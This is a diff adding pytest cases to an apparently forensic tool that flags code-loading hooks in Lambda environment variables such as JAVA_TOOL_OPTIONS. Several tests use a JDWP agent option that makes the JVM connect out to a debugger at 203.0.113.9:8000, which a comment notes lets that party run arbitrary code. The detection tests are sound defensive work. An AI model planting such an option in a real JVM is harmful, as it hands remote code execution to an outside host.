@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from lambda_ir.analyze.hooks import is_hook, load_targets, outside_code
+from lambda_ir.analyze.hooks import is_hook, load_targets, outside_code, outside_kind
 
 DD_JS = "/opt/nodejs/node_modules/datadog-lambda-js/"
 
@@ -70,3 +70,39 @@ def test_an_openssl_configuration_in_the_functions_own_code_is_no_hook() -> None
 
 def test_a_profiler_path_is_its_own_target() -> None:
     assert load_targets("CORECLR_PROFILER_PATH", " /opt/p.so ") == ("/opt/p.so",)
+
+
+JDWP_OUT = "-agentlib:jdwp=transport=dt_socket,server=n,address=203.0.113.9:8000"
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        # a native agent by path or by name, and the legacy -Xrun form (JDK 17 and 25 run it)
+        "-agentpath:/var/task/lib/libagent.so",
+        "-XX:+UseSerialGC -agentlib:hprof=cpu=samples",
+        JDWP_OUT,
+        "-Xrunjdwp:transport=dt_socket,address=203.0.113.9:8000",
+    ],
+)
+def test_every_jvm_agent_option_is_a_hook(value: str) -> None:
+    for name in ("JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS"):
+        assert is_hook(name, value)
+
+
+def test_jvm_options_that_load_nothing_are_no_hook() -> None:
+    assert not is_hook("JAVA_TOOL_OPTIONS", "-XX:+TieredCompilation -XX:TieredStopAtLevel=1")
+
+
+def test_a_jvm_agent_is_its_jar_library_or_name() -> None:
+    value = f"-javaagent:/opt/a.jar=x -agentpath:/opt/b.so=y {JDWP_OUT} -Xrunhprof:cpu=times"
+    assert load_targets("JAVA_TOOL_OPTIONS", value) == ("/opt/a.jar", "/opt/b.so", "jdwp", "hprof")
+
+
+def test_a_jdwp_agent_that_connects_out_is_code_from_no_file() -> None:
+    # JDWP's `server` defaults to n: the JVM dials its debugger, who then runs what it likes
+    legacy = "-Xrunjdwp:transport=dt_socket,address=203.0.113.9:8000"
+    assert outside_code("JAVA_TOOL_OPTIONS", f"{JDWP_OUT} {legacy}") == (JDWP_OUT, legacy)
+    assert "connecting out to 203.0.113.9:8000" in outside_kind(JDWP_OUT)
+    listening = "-agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=5005"
+    assert outside_code("JAVA_TOOL_OPTIONS", listening) == ()
